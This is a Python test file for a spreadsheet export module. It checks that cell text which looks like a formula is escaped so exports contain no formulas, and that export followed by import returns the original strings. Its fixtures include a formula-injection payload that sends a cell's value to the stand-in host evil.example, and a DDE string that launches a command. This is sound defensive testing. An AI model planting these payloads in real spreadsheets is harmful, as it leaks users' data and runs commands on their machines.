"""Exports never contain formulas, and export → import returns every string unchanged."""

from __future__ import annotations

import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rm_desktop.io.header import find_header_row, map_columns
from rm_desktop.io.readers import read_workbook_bytes
from rm_desktop.io.rows import OK, normalise_rows
from rm_desktop.io.xlsx_safe import (
    FORMULA_TRIGGERS,
    escape_text,
    safe_cell_value,
    unescape_text,
    write_rows,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def export(rows, text_columns=()) -> bytes:
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("客户")
    write_rows(ws, rows, text_columns)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@pytest.mark.parametrize(
    "text",
    [
        HYPERLINK,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "'=already",
    ],
)
def test_formula_like_text_is_escaped(text):
    escaped = escape_text(text)
    assert escaped == "'" + text
    assert unescape_text(escaped) == text


@pytest.mark.parametrize("text", ["张三", "-5", "+85291234567", "-1.5", "it's", "'quoted", "#N/A", ""])
def test_harmless_text_is_left_alone(text):
    assert escape_text(text) == text
    assert unescape_text(text) == text


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "＝", "1", " ", "a", "张", "."]), max_size=8)
    | st.text(max_size=12)
)
def test_escape_is_reversible_and_inert(text):
    escaped = escape_text(text)
    assert unescape_text(escaped) == text
    # Only a plain signed number may still start with + or -: it cannot hold a formula.
    assert not escaped.startswith(FORMULA_TRIGGERS) or re.fullmatch(r"[+\-]\d[\d ]*(\.\d+)?", escaped)


def test_exported_formula_text_reads_back_as_plain_text():
    data = export(
        [
            ["姓名", "证件号码", "手机号码", "备注", "金融资产"],
            [HYPERLINK, "110105198503071230", 13800138000, "#N/A", Decimal("52.50")],
        ],
        text_columns={1, 2},
    )
    ws = openpyxl.load_workbook(io.BytesIO(data)).active  # not read-only: formulas would show
    name, id_number, phone, note, amount = (cell for cell in ws[2])
    assert name.data_type == "s" and name.value == "'" + HYPERLINK
    assert id_number.data_type == "s" and id_number.value == "110105198503071230"
    assert phone.data_type == "s" and phone.value == "13800138000"
    assert note.data_type == "s" and note.value == "#N/A"
    assert amount.data_type == "n" and amount.value == 52.5
    assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row)


def test_round_trip_through_the_importer_is_exact():
    names = [HYPERLINK, "-欧阳娜娜", "=x", "@张三"]  # a leading ' is Excel's text marker in a name: dropped
    notes = ["=1+1", "+852 9123 4567", "'=x", "\t=2"]
    rows = [["姓名", "证件号码", "备注", "出生日期"]]
    rows += [[n, "110105198503071230", note, datetime.date(1985, 3, 7)] for n, note in zip(names, notes, strict=False)]
    sheet = read_workbook_bytes(export(rows, text_columns={1}), "export.xlsx").sheets[0]
    header = find_header_row(sheet.rows)
    results = normalise_rows(sheet, header, map_columns(sheet.rows[header]))
    assert [r.status for r in results] == [OK] * 4
    assert [r.values["name"] for r in results] == names
    assert [r.values["notes"] for r in results] == [n.strip() for n in notes]
    assert {r.values["birth_date"] for r in results} == {datetime.date(1985, 3, 7)}


def test_control_characters_xml_cannot_hold_are_dropped():
    assert safe_cell_value("a\x0bb\x00c") == "abc"
    assert safe_cell_value(5) == 5 and safe_cell_value(None) is None
